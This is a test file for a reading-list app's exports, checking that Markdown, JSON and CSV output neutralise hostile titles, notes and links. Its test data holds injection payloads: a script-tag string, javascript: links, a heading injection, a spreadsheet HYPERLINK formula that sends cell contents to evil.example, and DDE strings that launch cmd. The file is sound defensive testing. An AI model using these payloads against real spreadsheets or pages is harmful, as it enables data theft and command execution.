"""Exports render exactly what is in the library, whatever the titles contain."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from readinglist.core.export import escape_markdown, format_for, render
from readinglist.core.models import PaperRecord
from readinglist.core.service import ReadingList
from readinglist.core.textclean import for_display

HOSTILE = [
    "Markdown *Breaking* _Title_ with `ticks` and <script>alert(1)</script> | pipes |",
    "1984. A list? # not a heading",
    "- [link](https://evil.example) &amp; ![img](x.png) ~~strike~~ \\escape",
]
MD = MarkdownIt("commonmark").enable("table").enable("strikethrough")


def headings(tokens: list[Token], level: str) -> list[str]:
    found = []
    for index, token in enumerate(tokens):
        if token.type == "heading_open" and token.tag == level:
            found.append(_plain(tokens[index + 1]))
    return found


def _plain(inline: Token) -> str:
    """The text a reader sees: only text/code/softbreak children, so any markup shows up."""
    assert all(child.type in {"text", "softbreak"} for child in inline.children or []), (
        inline.children
    )
    return "".join(child.content for child in inline.children or [])


@pytest.fixture
def library(service: ReadingList, tmp_path: Path, sample_pages) -> ReadingList:
    page = tmp_path / "hostile.txt"
    blocks = ["Daily Papers"]
    for title in HOSTILE:
        blocks += [title, f"Abstract for {title} with code at https://github.com/a/b_(c)."]
    page.write_text("\n\n".join(blocks) + "\n", encoding="utf-8")
    service.import_pages([*sample_pages, page])
    return service


def test_markdown_has_exactly_the_starred_papers(library: ReadingList):
    hostile_ids = [hit.id for title in HOSTILE for hit in library.search(title, limit=1)]
    sample_ids = [row.id for row in library.papers(sort="upvotes", limit=3)]
    starred = hostile_ids + sample_ids
    library.star(starred)
    library.set_note(sample_ids[0], "My **own** note\n\n- point one")
    text = library.export(library.select(scope="starred"), "md")
    tokens = MD.parse(text)
    titles = {library.get(pid).title for pid in starred}
    assert set(headings(tokens, "h2")) == titles
    assert len(headings(tokens, "h2")) == len(titles)
    assert headings(tokens, "h1")[0].startswith("Reading list")
    html = MD.render(text)
    assert "<script>" not in html and "<table>" not in html and "<em>" not in html.split("My")[0]
    assert "<strong>own</strong>" in html  # the note is the reader's Markdown
    links = [
        child.attrs["href"]
        for token in tokens
        if token.type == "inline"
        for child in token.children or []
        if child.type == "link_open"
    ]
    expected = [link for pid in library.select(scope="starred") for link in library.get(pid).links]
    assert links == expected and "https://github.com/a/b_(c)" in links
    assert "3 papers" not in text and f"{len(starred)} papers." in text


def test_no_abstract_option_and_order(library: ReadingList):
    ids = [row.id for row in library.papers(limit=2)]
    library.star(ids)
    without = library.export(library.select(scope="starred"), "md", include_abstract=False)
    assert ">" not in without.replace("<", "")
    assert library.select(scope="starred", sort="title") == sorted(
        ids, key=lambda i: library.get(i).title.lower()
    )


def test_json_and_csv(library: ReadingList):
    ids = [row.id for row in library.papers(limit=4)]
    library.set_note(ids[0], 'quote " and, comma\nnew line')
    data = json.loads(library.export(ids, "json"))
    assert [row["id"] for row in data] == ids
    rows = list(csv.DictReader(io.StringIO(library.export(ids, "csv"), newline="")))
    assert [int(row["id"]) for row in rows] == ids
    assert rows[0]["note"] == 'quote " and, comma\nnew line'
    assert rows[0]["links"] == " ".join(data[0]["links"])
    assert library.export(ids, "csv").count("\r\n") >= len(ids) + 1


def test_export_file_is_atomic(
    library: ReadingList, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    target = tmp_path / "list.md"
    target.write_text("the good old export")
    from readinglist.core import files

    def broken_replace(*_args):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(files.os, "replace", broken_replace)
    with pytest.raises(OSError):
        library.export_to_file([library.papers(limit=1)[0].id], target)
    assert target.read_text() == "the good old export"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".list.md")] == []


@settings(max_examples=200, deadline=None)
@given(
    st.text(
        alphabet=st.characters(codec="utf-8", exclude_categories=("Cc", "Cs", "Zl", "Zp")),
        min_size=1,
    )
    .map(str.strip)
    .filter(bool)
)
def test_escaped_titles_render_literally(title: str):
    tokens = MD.parse(f"## {escape_markdown(title)}\n")
    assert headings(tokens, "h2") == [" ".join(title.split())] or headings(tokens, "h2") == [title]


FORMULA_STARTS = "=+-@\uff1d\uff0b\uff0d\uff20"  # and their full-width forms
TEXT_COLUMNS = ("title", "abstract", "org", "org_id", "date_text", "links", "note")


def _runs_as_formula(cell: str) -> bool:
    """What OWASP's CSV-injection guidance says a spreadsheet may run."""
    return cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in tuple(FORMULA_STARTS)


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_cells_never_start_a_formula(service: ReadingList, tmp_path: Path):
    hostile = [
        '=HYPERLINK("https://evil.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3 a title that is a sum",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ]
    page = tmp_path / "formulas.txt"
    blocks = ["Daily Papers"]
    for title in hostile:
        blocks += [title, f"=1+1 abstract of {title}"]
    page.write_text("\n\n".join(blocks) + "\n", encoding="utf-8")
    service.import_pages([page])
    ids = [row.id for row in service.papers(sort="title")]
    service.set_note(ids[0], "\t=1+1 a note that starts with a tab")
    service.set_note(ids[1], "   @cmd after spaces")
    rows = _csv_rows(service.export(ids, "csv"))
    assert {row["title"] for row in rows} == {"'" + title for title in hostile}
    for row in rows:
        for column in TEXT_COLUMNS:
            assert not _runs_as_formula(row[column]), (column, row[column])
    notes = {row["note"] for row in rows}
    assert "'\t=1+1 a note that starts with a tab" in notes and "'   @cmd after spaces" in notes


def _record(**text: object) -> PaperRecord:
    fields: dict[str, object] = {
        "id": 1,
        "title": "t",
        "abstract": "",
        "authors": 3,
        "org": None,
        "org_id": None,
        "date": "2024-05-01",
        "date_text": None,
        "upvotes": 12,
        "links": (),
        "starred": False,
        "note": "",
        "status": "unread",
        "added_at": "2026-11-25T00:00:00+00:00",
    }
    return PaperRecord(**{**fields, **text})  # type: ignore[arg-type]


CELL = st.text(alphabet=st.sampled_from(list(FORMULA_STARTS + " \t\r\n,\"';|!aZ1(")), max_size=8)


@settings(max_examples=300, deadline=None)
@given(
    title=CELL,
    abstract=CELL,
    org=CELL,
    note=CELL,
    link=CELL.filter(lambda cell: " " not in cell),
)
def test_csv_neutralises_formulas_in_every_text_field(
    title: str, abstract: str, org: str, note: str, link: str
):
    record = _record(title=title, abstract=abstract, org=org, org_id=org, note=note, links=(link,))
    [row] = _csv_rows(render([record], "csv"))
    originals = {
        "title": title,
        "abstract": abstract,
        "org": org,
        "org_id": org,
        "note": note,
        "links": link,
    }
    for column, original in originals.items():
        cell = row[column]
        shown = for_display(original)  # every export is cleaned for display first
        assert not _runs_as_formula(cell), (column, cell)
        # a neutralised cell is the cleaned original behind one quote; any other is unchanged
        assert cell == ("'" + shown if _runs_as_formula(shown) else shown)
    assert (row["id"], row["authors"], row["upvotes"]) == ("1", "3", "12")


def test_the_file_name_picks_the_format():
    names = ["a.json", "B.CSV", "c.md", "d.markdown", "e.txt", "f", "g.json.bak"]
    assert [format_for(Path(name)) for name in names] == [
        "json",
        "csv",
        "md",
        "md",
        "md",  # any other name is Markdown, in the app and the CLI
        "md",
        "md",
    ]


LINK_PART = st.text(alphabet=st.sampled_from(list("a/.:()[]<>\\ \t\n\r`*_#-=!&|~\"'?")), max_size=6)
ODD_LINKS = st.lists(
    st.one_of(
        LINK_PART.map(lambda tail: f"https://example.org/{tail}"),
        LINK_PART.map(lambda tail: f"javascript:alert(1){tail}"),
        LINK_PART,
    ),
    min_size=1,
    max_size=4,
)


def _links_in(tokens: list[Token]) -> list[str]:
    found = []
    for token in tokens:
        for child in token.children or []:
            if child.type == "link_open":
                found.append(str(child.attrs["href"]))
    return found


@settings(max_examples=300, deadline=None)
@given(links=ODD_LINKS)
def test_markdown_links_another_client_wrote_never_break_the_export(links: list[str]):
    """Each link is one list item; only an http(s) link without whitespace or angle
    brackets is a link, any other is plain text; nothing leaks into the next paper."""
    from readinglist.core.links import is_web_link

    text = render([_record(links=tuple(links)), _record(title="next")], "md")
    tokens = MD.parse(text)
    assert headings(tokens, "h2") == ["t", "next"]
    items = [token for token in tokens if token.type == "list_item_open"]
    assert len(items) == len(links), text
    shown = [for_display(link) for link in links]
    wanted = [
        link
        for link in shown
        if is_web_link(link) and not any(char.isspace() or char in "<>\\" for char in link)
    ]
    assert _links_in(tokens) == [MD.normalizeLink(link) for link in wanted]


def test_a_link_with_a_newline_or_angle_bracket_is_plain_text_in_markdown():
    links = ("https://a.example/x>\n## injected", "https://b.example/ok", "javascript:alert(1)")
    text = render([_record(links=links)], "md")
    tokens = MD.parse(text)
    assert headings(tokens, "h2") == ["t"]
    assert _links_in(tokens) == ["https://b.example/ok"]
    assert "- https://a.example/x\\> \\#\\# injected" in text


def test_markdown_shows_a_papers_tags_as_json_and_csv_do(library: ReadingList):
    ids = [row.id for row in library.papers(limit=2)]
    library.tag(ids[:1], "thesis")
    library.tag(ids[:1], "c++")
    text = library.export(ids, "md")
    first, second = text.split("\n## ")[1:]
    assert "\nTags: c++, thesis\n" in first and "Tags:" not in second
    assert [row["tags"] for row in json.loads(library.export(ids, "json"))] == [
        ["c++", "thesis"],
        [],
    ]
    assert [row["tags"] for row in _csv_rows(library.export(ids, "csv"))] == ["c++; thesis", ""]


@settings(max_examples=200, deadline=None)
@given(tags=st.lists(st.text(min_size=1, max_size=12), min_size=1, max_size=4))
def test_tags_another_client_wrote_are_one_line_of_plain_text(tags: list[str]):
    text = render([_record(tags=tuple(tags)), _record(title="next")], "md")
    tokens = MD.parse(text)
    assert headings(tokens, "h2") == ["t", "next"]
    shown = ", ".join(filter(None, (" ".join(for_display(tag).split()) for tag in tags)))
    if not shown:  # only blank tags: no line for them
        assert not any(line.startswith("Tags:") for line in text.splitlines())
        return
    assert sum(line.startswith("Tags: ") for line in text.splitlines()) == 1
    paragraph = next(
        tokens[at + 1]
        for at, token in enumerate(tokens)
        if token.type == "paragraph_open" and tokens[at + 1].content.startswith("Tags: ")
    )
    assert _plain(paragraph) == f"Tags: {shown}"
